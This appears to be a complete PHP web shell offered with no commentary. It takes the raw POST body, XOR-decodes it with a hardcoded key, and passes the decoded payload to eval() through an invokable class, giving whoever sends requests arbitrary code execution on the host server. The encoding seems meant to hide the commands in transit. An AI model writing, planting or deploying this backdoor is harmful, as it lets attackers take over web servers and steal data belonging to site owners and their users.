<?php
$k = "e45e329feb5d925b";
$post = file_get_contents("php://input");
for ($i = 0; $i < strlen($post); $i++) { $post[$i] = $post[$i] ^ $k[$i + 1 & 15]; }
$arr = explode("|", $post);
$func = $arr[0];
$params = $arr[1];
class C { public function __invoke($p) { eval($p . ""); } }
call_user_func(new C(), $params);
